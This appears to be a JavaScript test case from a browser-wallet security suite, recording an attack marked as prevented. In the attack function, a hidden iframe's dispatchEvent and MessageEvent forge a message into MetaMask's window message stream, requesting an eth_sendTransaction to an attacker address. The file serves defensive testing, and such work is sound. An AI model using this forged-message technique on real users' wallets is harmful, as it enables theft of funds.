// G03: a fresh frame lends its dispatchEvent and its MessageEvent.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G03',
  title: 'synthetic event by the natives of a frame',
  source: 'MetaMask window message stream',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    // The wallet's stream drops what comes before its handshake, so one answered question goes first.
    await window.ethereum.request({ method: 'eth_accounts' });
    const params = [{ from: a.USER, to: a.EVIL, value: '0x5' }];
    const rpc = { jsonrpc: '2.0', id: 4242, method: 'eth_sendTransaction', params };
    const message = { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: rpc } };
    const frame = document.createElement('iframe');
    document.documentElement.append(frame);
    const realm = frame.contentWindow;
    const make = (Kind) => new Kind('message', { data: message, origin: location.origin, source: window });
    realm.EventTarget.prototype.dispatchEvent.call(window, make(MessageEvent));
    realm.dispatchEvent.call(window, make(realm.MessageEvent));
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ surface: 'postmessage', role: 'payee', account: a.EVIL }),
};
